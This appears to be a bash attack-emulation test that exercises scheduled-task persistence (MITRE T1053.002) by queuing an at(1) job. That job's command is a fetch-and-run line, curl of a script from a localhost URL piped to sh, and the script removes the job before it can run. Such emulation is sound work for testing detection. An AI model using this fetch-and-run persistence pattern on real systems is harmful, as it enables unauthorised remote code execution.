#!/bin/bash
# vigil-emulation: attack
# technique: T1053.002 Scheduled Task/Job: At
# tactic: persistence, execution
# what: schedules a one-shot job with at(1) an hour from now that would fetch and run a
#   script from a local URL, then removes it with atrm before it can run; at's sequence
#   file is restored exactly.
# report: a job queued with at (a new file in /var/spool/cron/atjobs) whose command
#   downloads and runs a script.
# expect: at job|atjob|scheduled|at(1)
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need at atrm

emul_backup /var/spool/cron/atjobs/.SEQ
out=$(echo 'curl -fsS http://127.0.0.1:9/a.sh | sh' | at now + 1 hour 2>&1)
echo "$out"
job=$(echo "$out" | awk '/^job/ {print $2}')
[ -n "$job" ] && emul_on_exit atrm "$job"
atq
